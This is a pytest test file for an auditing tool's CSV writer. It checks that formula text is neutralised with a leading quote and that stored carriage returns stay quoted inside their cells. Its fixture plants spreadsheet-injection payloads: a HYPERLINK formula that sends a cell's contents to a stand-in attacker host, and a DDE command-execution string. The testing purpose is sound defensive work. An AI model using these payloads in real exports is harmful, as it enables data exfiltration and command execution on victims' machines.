"""Every CSV auditkit writes goes through one writer (auditkit.csvout): a stored CR or LF stays
inside its cell, and text a spreadsheet would run as a formula is written with a leading quote."""

from __future__ import annotations

import csv
import io
import shutil
import sqlite3

import pytest

from conftest import ROOT, file_sha256

SAMPLE = ROOT / "sample_data"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
COMMAND = "=cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    """A copy of the sample store whose git commit tag holds a CR and whose runs, tags and model
    versions carry formula text (as anyone on the team could type them)."""
    path = tmp_path_factory.mktemp("csv") / "r.db"
    shutil.copy(SAMPLE / "mlflow.db", path)
    with sqlite3.connect(path) as conn:
        conn.execute("UPDATE tags SET value='abc'||char(13)||'FORGED' WHERE key='mlflow.source.git.commit'")
        conn.execute("UPDATE runs SET name=?", (FORMULA,))
        conn.execute("UPDATE model_versions SET user_id=?", (COMMAND,))
        conn.execute("UPDATE params SET value='-0.5' WHERE key=(SELECT MIN(key) FROM params)")
    return path


def test_lineage_csv_keeps_a_stored_cr_inside_its_cell(hostile_store, tmp_path, cli_run):
    out = tmp_path / "l.csv"
    before = file_sha256(hostile_store), file_sha256(SAMPLE / "predictions.csv")
    result = cli_run("lineage", "--all", "--store", hostile_store, "--predictions", SAMPLE / "predictions.csv",
                     "-o", out)
    assert result.exit_code == 0, result.stderr
    assert "wrote lineage of 2400 decision(s)" in result.stdout
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 2400
    assert not any(r["prediction_id"].startswith("FORGED") for r in rows)
    assert {r["git_commit"] for r in rows if r["git_commit"]} == {"abc\rFORGED"}
    assert {r["run_name"] for r in rows if r["run_name"]} == {"'" + FORMULA}
    assert b'"abc\rFORGED"' in out.read_bytes()  # quoted, so every reader keeps it one cell
    assert (file_sha256(hostile_store), file_sha256(SAMPLE / "predictions.csv")) == before


@pytest.mark.parametrize("command", ["runs", "models"])
def test_runs_and_models_csv_neutralise_formulas(hostile_store, cli_run, command):
    result = cli_run(command, "--store", hostile_store, "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows
    cells = [v for r in rows for v in r.values() if v]
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert not any(c.startswith("-") and c != "-0.5" for c in cells)
    if command == "runs":
        assert {r["run_name"] for r in rows} == {"'" + FORMULA}
        assert "-0.5" in cells  # a plain negative number is not touched
    else:
        assert {r["creator"] for r in rows} == {"'" + COMMAND}


def test_the_writer_quotes_and_neutralises_each_rule():
    from auditkit.csvout import write_rows

    buf = io.StringIO(newline="")
    write_rows(buf, ["a", "b"], [["x\ry", '"q",'], ["@SUM(1)", "\tTAB"], ["-1e-3", "+7"], [3, None],
                                 ["-2+3", "+cmd"]])
    text = buf.getvalue()
    assert text.count("\r\n") == 6  # header + five rows, each ended by CRLF; the stored CR is quoted
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert back == [["a", "b"], ["x\ry", '"q",'], ["'@SUM(1)", "'\tTAB"], ["-1e-3", "+7"], ["3", ""],
                    ["'-2+3", "'+cmd"]]
